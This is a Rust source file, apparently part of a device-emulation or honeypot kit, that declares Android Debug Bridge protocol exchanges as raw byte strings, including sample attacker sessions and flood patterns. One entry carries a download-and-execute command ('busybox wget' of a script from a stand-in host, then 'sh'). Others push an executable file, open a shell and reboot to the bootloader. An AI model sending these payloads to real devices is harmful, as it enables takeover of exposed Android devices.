//! How clients talk to a device.

use netsvc_kit::declared::{Flood, Step, Talks};

/// A client that says nothing of itself.
const CONNECT: &[u8] = b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\x002\x02\0\0\xbc\xb1\xa7\xb1host::\0";

/// See [`Talks`].
pub(super) const TALKS: Talks = Talks {
    stream: &[
        Step::Say(b"CNXN\x01\0\0\x01\0\x10\0\0\x17\0\0\0\0\0\0\0\xbc\xb1\xa7\xb1host::{nonce}\0"),
        Step::begins("who the device is", &[b"CNXN", b"AUTH"]),
    ],
    visit: &[
        CONNECT,
        b"OPEN\x01\0\0\0\0\0\0\0O\0\0\0\x92\x19\0\0\xb0\xaf\xba\xb1shell:cd /data/local/tmp; bus\
          ybox wget http://192.0.2.9/w.sh; sh w.sh; rm w.sh\0",
    ],
    dialogues: &[
        b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\x002\x02\0\0\xbc\xb1\xa7\xb1host::\0OPEN\x01\0\0\0\0\0\
          \0\0\x10\0\0\0i\x05\0\0\xb0\xaf\xba\xb1shell,v2,raw:id\0OKAY\x01\0\0\0\x01\0\0\0\0\0\0\
          \0\0\0\0\0\xb0\xb4\xbe\xa6OKAY\x01\0\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\xb0\xb4\xbe\xa6OKAY\
          \x01\0\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\xb0\xb4\xbe\xa6",
        b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\x002\x02\0\0\xbc\xb1\xa7\xb1host::\0OPEN\x01\0\0\0\0\0\
          \0\0\x06\0\0\0\xf7\x01\0\0\xb0\xaf\xba\xb1sync:\0WRTE\x01\0\0\0\x01\0\0\0K\0\0\0\x88\
          \x13\0\0\xa8\xad\xab\xbaSEND\x17\0\0\0/data/local/tmp/x,33261DATA\x14\0\0\0#!/system/b\
          in/sh\nid\nDONE\0/hYQUIT\0\0\0\0",
        b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\x002\x02\0\0\xbc\xb1\xa7\xb1host::\0OPEN\x01\0\0\0\0\0\
          \0\0\x07\0\0\0R\x02\0\0\xb0\xaf\xba\xb1shell:\0OKAY\x01\0\0\0\x01\0\0\0\0\0\0\0\0\0\0\
          \0\xb0\xb4\xbe\xa6WRTE\x01\0\0\0\x01\0\0\0\x0e\0\0\0\x92\x04\0\0\xa8\xad\xab\xbauname \
          -a\nexit\nOKAY\x01\0\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\xb0\xb4\xbe\xa6OKAY\x01\0\0\0\x01\0\
          \0\0\0\0\0\0\0\0\0\0\xb0\xb4\xbe\xa6",
        b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\x002\x02\0\0\xbc\xb1\xa7\xb1host::\0OPEN\x01\0\0\0\0\0\
          \0\0\x07\0\0\0\xe9\x01\0\0\xb0\xaf\xba\xb1tcp:80\0OPEN\x02\0\0\0\0\0\0\0\x12\0\0\0\xf0\
          \x06\0\0\xb0\xaf\xba\xb1reboot:bootloader\0",
    ],
    floods: &[
        Flood { name: "connections", head: b"", unit: CONNECT },
        Flood {
            name: "streams",
            head: CONNECT,
            unit: b"OPEN\x01\0\0\0\0\0\0\0\x09\0\0\0\x1f\x03\0\0\xb0\xaf\xba\xb1shell:id\0",
        },
        Flood {
            name: "files",
            head: b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\x002\x02\0\0\xbc\xb1\xa7\xb1host::\0OPEN\x01\0\0\0\0\0\
                  \0\0\x06\0\0\0\xf7\x01\0\0\xb0\xaf\xba\xb1sync:\0",
            unit: b"WRTE\x01\0\0\0\x01\0\0\0\x0f\0\0\0\x17\x04\0\0\xa8\xad\xab\xbaSTAT\x07\0\0\0/system",
        },
    ],
    client: "adb connect {ip}:{port}",
    ..Talks::NONE
};
